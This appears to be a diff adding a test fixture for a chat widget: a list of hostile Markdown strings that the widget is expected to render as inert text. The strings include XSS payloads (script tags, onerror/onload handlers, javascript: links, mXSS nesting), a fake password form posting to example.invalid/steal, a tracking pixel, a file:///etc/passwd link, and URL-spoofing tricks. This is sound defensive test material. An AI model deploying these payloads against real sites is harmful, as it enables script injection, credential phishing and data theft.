@@ -1,0 +1,31 @@
+// Markdown that tries to run script, to load something, or to look like controls. The widget must show it as harmless
+// text (trust SEC1–SEC3); example.invalid can never answer.
+
+export const hostileMarkdown = [
+  'Everything below is an attack. You should see words, and nothing else should happen.',
+  '<script>window.__pwned = "script"</script>',
+  '<img src="x" onerror="window.__pwned = \'onerror\'">',
+  '<svg onload="window.__pwned = \'svg\'"><circle r="9"/></svg>',
+  '<iframe src="javascript:parent.__pwned=1" srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
+  '<form action="https://example.invalid/steal"><input name="password" type="password"><button>Sign in again</button></form>',
+  '<a href="javascript:window.__pwned=1">link</a> <a href="jav&#x09;ascript:window.__pwned=1">tab</a>',
+  '[click](javascript:window.__pwned=1) [upper](JaVaScRiPt:window.__pwned=1) [data](data:text/html,<script>1</script>)',
+  '[vb](vbscript:msgbox) [file](file:///etc/passwd) [relative](/account/delete) [scheme](//example.invalid/x)',
+  '[userinfo](https://bank.example@example.invalid/) [entity](&#106;avascript:alert) <javascript:window.__pwned=1>',
+  '[reversed](https://example.invalid/\u202egpj.exe) [hidden](https://exa\u200bmple.invalid/) [no slashes](https:evil)',
+  '![pixel](https://example.invalid/pixel.png?q=secret) ![data](data:image/svg+xml,<svg onload="window.__pwned=1"/>)',
+  '![title](https://example.invalid/a.png "\\" onerror=\\"window.__pwned=1")',
+  '<style>* { display: none !important }</style><link rel="stylesheet" href="https://example.invalid/x.css">',
+  '<div style="position:fixed;inset:0;background:red;z-index:9999" id="host" class="launcher" part="panel" slot="x">cover</div>',
+  '<base href="https://example.invalid/"><meta http-equiv="refresh" content="0;url=https://example.invalid/">',
+  '<video src="https://example.invalid/v.mp4" autoplay></video><audio src="https://example.invalid/a.mp3" autoplay></audio>',
+  '<details open ontoggle="window.__pwned=1"><summary>more</summary></details><dialog open>Fake dialog</dialog>',
+  '<x-y is="persona-chat" contenteditable autofocus onfocus="window.__pwned=1" tabindex="1">custom</x-y>',
+  '```"><script>window.__pwned=1</script>\n</code></pre><img src=x onerror="window.__pwned=1">\n```',
+  '`<img src=x onerror=window.__pwned=1>` and <!--><img src=x onerror="window.__pwned=1">-->',
+  '| <b onclick="window.__pwned=1">cell</b> | [x](javascript:1) |\n| --- | --- |\n| <img src=x onerror=window.__pwned=1> | ok |',
+  '[ref]: javascript:window.__pwned=1\n\n[ref] and [ref][ref]',
+  `${'>'.repeat(200)} deep quote`,
+  '{{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1} %00 \u0000 \ufeff end',
+].join('\n\n');
